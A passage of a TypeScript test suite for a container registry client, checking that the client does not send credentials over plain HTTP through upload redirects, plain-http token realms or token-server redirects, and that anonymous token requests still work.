        if (req.headers.authorization !== BASIC) res.writeHead(401, { 'www-authenticate': 'Basic realm="r"' }).end();
        else if (req.method === 'HEAD') res.writeHead(404).end();
        else res.writeHead(202, { location: `http://${req.headers.host}/upload/1` }).end();
      },
      (_req, res) => res.writeHead(401, { 'www-authenticate': 'Basic realm="r"' }).end(),
    );
    const data = Buffer.from('blob bytes');
    const error = await secureClient(both.host).uploadBlob(`${both.host}/team/app`, digestOf(data), data).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(RegistryError);
    expect((error as RegistryError).message).toBe(
      `registry ${both.host} sent the blob upload to http://${both.host}, which asks for credentials; prebuilt sends the credentials of ${both.host} to https://${both.host} only`,
    );
    const plain = both.seen.filter((s) => s.scheme === 'http');
    // The upload, then the DELETE that drops its session: neither with the credentials.
    expect(plain.map((s) => [s.method, s.authorization])).toEqual([
      ['PUT', undefined],
      ['DELETE', undefined],
    ]);
  });

  it('a token realm on plain http:// of another host is not sent the password of an HTTPS registry', async () => {
    // realm.invalid never resolves: asking it at all would fail otherwise (unreachable).
    const both = await serveBothSchemes(
      (_req, res) => res.writeHead(401, { 'www-authenticate': 'Bearer realm="http://realm.invalid/token",service="r"' }).end(),
      (_req, res) => res.writeHead(500).end(),
    );
    const error = await secureClient(both.host).getManifest(`${both.host}/team/app:v1`).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(RegistryError);
    expect((error as RegistryError).message).toBe(
      `registry ${both.host} named the token server http://realm.invalid/token, over plain HTTP; prebuilt sends the credentials of an HTTPS registry over HTTPS only`,
    );
    expect(both.seen.map((s) => s.scheme)).toEqual(['https']);
  });

  it('a redirect of the token server to http:// on its own host and port gets no Authorization', async () => {
    const realm = await serveBothSchemes(
      (req, res) => res.writeHead(302, { location: `http://${req.headers.host}/token-in-clear` }).end(),
      (_req, res) => res.writeHead(401).end(),
    );
    const registry = await serveBothSchemes(
      (_req, res) => res.writeHead(401, { 'www-authenticate': `Bearer realm="https://${realm.host}/token",service="r"` }).end(),
      (_req, res) => res.writeHead(500).end(),
    );
    const error = await secureClient(registry.host).getManifest(`${registry.host}/team/app:v1`).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(AuthError);
    expect(realm.seen.map((s) => [s.scheme, s.authorization])).toEqual([
      ['https', BASIC],
      ['http', undefined],
    ]);
  });

  it('an HTTPS registry with a plain-http:// token realm is still asked anonymously (no credentials to protect)', async () => {
    const realm = await serve((_req, res) => res.writeHead(200, { 'content-type': 'application/json' }).end('{"token":"anonymous-token"}'));
    const both = await serveBothSchemes(
      (req, res) => {
        if (req.headers.authorization !== 'Bearer anonymous-token') res.writeHead(401, { 'www-authenticate': `Bearer realm="http://${realm.host}/token",service="r"` }).end();
        else res.writeHead(200, { 'content-type': 'application/vnd.oci.image.manifest.v1+json' }).end(MANIFEST);
      },
      (_req, res) => res.writeHead(500).end(),
    );
    const anonymous = new RegistryClient({ dockerConfig: false, secureRegistries: [both.host], retry: { attempts: 1 }, timeouts: { idleMs: 2000, deadlineMs: 10_000 } });
    expect((await anonymous.getManifest(`${both.host}/team/app:v1`)).digest).toBe(digestOf(MANIFEST));
    expect(realm.seen.map((s) => s.authorization)).toEqual([undefined]);
  });
});
